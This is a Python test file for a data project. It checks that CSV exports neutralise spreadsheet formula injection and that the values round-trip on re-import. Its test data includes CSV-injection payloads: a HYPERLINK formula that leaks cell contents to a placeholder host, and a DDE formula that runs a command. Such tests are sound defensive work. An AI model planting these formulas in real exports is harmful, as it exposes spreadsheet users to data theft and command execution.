"""CSV exports never hand a spreadsheet a formula to run (CSV injection, issue 12)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from maillage import api
from maillage.cli import app
from maillage.csvcells import neutralise, neutralise_frame
from maillage.planning import store
from maillage.registry.csvfile import read_records

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"cliquez")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1"]
CELL_STARTS = [*FORMULAS, "\r=1"]  # a carriage return in a stored name is not tried through a file: it ends the row
runner = CliRunner()


def test_neutralise_cell_by_cell() -> None:
    assert [neutralise(v) for v in CELL_STARTS] == ["'" + v for v in CELL_STARTS]
    assert [neutralise(v) for v in ("-0.25", "+3", "1e-3", "Antenne = pôle", 12, -2.5, None)] == [
        "-0.25", "+3", "1e-3", "Antenne = pôle", 12, -2.5, None]


def test_sites_export_neutralises_formulas_and_reimports_them_unchanged(
    shared_data: Path, db_url: str, tmp_path: Path
) -> None:
    api.init_registry(shared_data, db_url)
    engine = api.open_registry(db_url)
    with engine.begin() as conn:
        ids = conn.execute(text("SELECT id FROM site ORDER BY id LIMIT :n"), {"n": len(FORMULAS)}).scalars().all()
        for site_id, name in zip(ids, FORMULAS, strict=True):
            conn.execute(text("UPDATE site SET name = :n WHERE id = :i"), {"n": name, "i": site_id})
    out = tmp_path / "sites.csv"
    result = runner.invoke(app, ["sites", "export", "--format", "csv", "-o", str(out), "--db", db_url])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = {r["id"]: r for r in csv.DictReader(handle)}
    assert [rows[i]["name"] for i in ids] == ["'" + v for v in FORMULAS]
    cells = [v for r in rows.values() for v in r.values() if v]
    assert not [v for v in cells if v.startswith(("=", "@", "\t", "\r")) or (v[0] in "+-" and not v[1:2].isdigit())]
    _, records, problems = read_records(out)
    assert not problems
    assert {row["id"]: row["name"] for _, row in records if row["id"] in ids} == dict(zip(ids, FORMULAS, strict=True))


def test_scenario_csv_export_neutralises_and_round_trips(registry_template: Path, tmp_path: Path) -> None:
    from maillage.registry.snapshot import load_snapshot

    path = tmp_path / "registry.sqlite"
    path.write_bytes(registry_template.read_bytes())
    engine = api.open_registry(f"sqlite:///{path}")
    snapshot = load_snapshot(engine)
    site = snapshot.sites[snapshot.sites["duplicate_of"].isna()].iloc[0]
    change = {"op": "add_site", "site_id": None,
              "payload": {"name": FORMULAS[1], "kind": "antenne", "lon": float(site["lon"]), "lat": float(site["lat"])}}
    scenario = store.create_scenario(engine, "formules", None, "test", snapshot=snapshot, changes=[change])
    exported = store.export_csv(scenario)
    assert "'=cmd" in exported and ",=cmd" not in exported
    _, _, changes = store.parse_import(exported)
    assert changes[0]["payload"]["name"] == FORMULAS[1]
    assert float(changes[0]["payload"]["lon"]) == pytest.approx(site["lon"])


def test_text_columns_of_pandas_str_dtype_are_neutralised_too() -> None:
    frame = pd.DataFrame({"name": pd.Series(["=1+1", "Pôle", None], dtype="str"), "n": [1, 2, 3]})
    assert list(neutralise_frame(frame)["name"].iloc[:2]) == ["'=1+1", "Pôle"]
